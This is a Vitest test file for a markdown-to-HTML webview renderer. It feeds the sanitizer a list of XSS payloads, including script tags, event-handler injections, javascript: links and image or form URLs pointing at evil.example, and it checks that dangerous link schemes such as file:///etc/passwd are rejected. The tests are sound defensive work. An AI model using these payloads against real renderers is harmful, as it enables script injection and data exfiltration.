import { describe, expect, test } from "vitest";
import { createBlockSplitter } from "../../../client/webview/markdown/blocks.ts";
import { createParser, fenceLanguage, isSafeLink } from "../../../client/webview/markdown/parser.ts";
import { allowedAttributes, allowedTags } from "../../../client/webview/markdown/sanitize.ts";

function rendered(source: string): string {
  return createBlockSplitter(createParser(false))
    .update(source, true)
    .map((block) => (block.kind === "html" ? block.html : ""))
    .join("");
}

/** Every tag of the HTML with its attributes, as far as there are any. */
function tags(html: string): { name: string; attributes: string[] }[] {
  return [...html.matchAll(/<([a-z][a-z0-9]*)((?:\s+[^<>]*)?)>/gi)].map((match) => ({
    name: match[1] ?? "",
    attributes: [...(match[2] ?? "").matchAll(/([^\s="]+)(?:="[^"]*")?/g)].map((attribute) => attribute[1] ?? ""),
  }));
}

const hostile = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  '<a href="javascript:alert(1)">x</a>',
  "<svg/onload=alert(1)>",
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  "<style>*{background:url(https://evil.example)}</style>",
  "<form action=https://evil.example><input name=a></form>",
  '| a |\n|:-:|\n| <b onclick="x()">b</b> |',
  '```"><script>alert(1)</script>\ncode\n```',
  "1. item\n   ```html onmouseover=alert(1)\n   <script>alert(1)</script>\n   ```",
  "![x](https://evil.example/p.png?secret=1)",
  '![x" onerror="alert(1)](https://evil.example/p.png)',
  "![x](data:image/png;base64,AAAA)",
  '<https://example.com/"onmouseover=alert(1)>',
  '[a](https://example.com "t\\" onclick=\\"alert(1)")',
];

describe("hostile markdown", () => {
  test.each(hostile)("%j gives only tags and attributes of the allow-list", (source) => {
    for (const { name, attributes } of tags(rendered(source))) {
      expect(allowedTags).toContain(name);
      for (const attribute of attributes) expect(allowedAttributes).toContain(attribute);
    }
  });

  test("an image is never fetched: it becomes a link, or words where its address is none of the web", () => {
    expect(rendered("![a chart](https://evil.example/p.png)")).toBe(
      '<p><a class="image-link" href="https://evil.example/p.png">a chart</a></p>\n',
    );
    expect(rendered("![a chart](./p.png)")).toBe('<p><span class="image-link">a chart</span></p>\n');
  });

  test("no rule writes a style attribute", () => {
    expect(rendered("| a | b |\n|:--|--:|\n| 1 | 2 |")).not.toContain("style=");
    expect(rendered("| a | b |\n|:--|--:|\n| 1 | 2 |")).toContain('<td class="align-right">2</td>');
  });

  test.each([
    ["https://example.com", true],
    ["mailto:a@example.com", true],
    ["src/main.ts", true],
    ["#part", true],
    ["javascript:alert(1)", false],
    ["JaVaScRiPt:alert(1)", false],
    ["java\nscript:alert(1)", false],
    ["\u0001javascript:alert(1)", false],
    ["data:text/html,<script>", false],
    ["vbscript:x", false],
    ["command:workbench.action.quit", false],
    ["vscode://ext/evil", false],
    ["file:///etc/passwd", false],
  ])("the address %j is allowed: %s", (url, allowed) => {
    expect(isSafeLink(url)).toBe(allowed);
  });

  test.each([
    ["ts", "ts"],
    ["typescript title=x", "typescript"],
    ["js{1,3}", "js"],
    ["{.python}", "python"],
    ["c++", "c++"],
    ["", ""],
  ])("the language of the fence %j is %j", (info, language) => {
    expect(fenceLanguage(info)).toBe(language);
  });
});
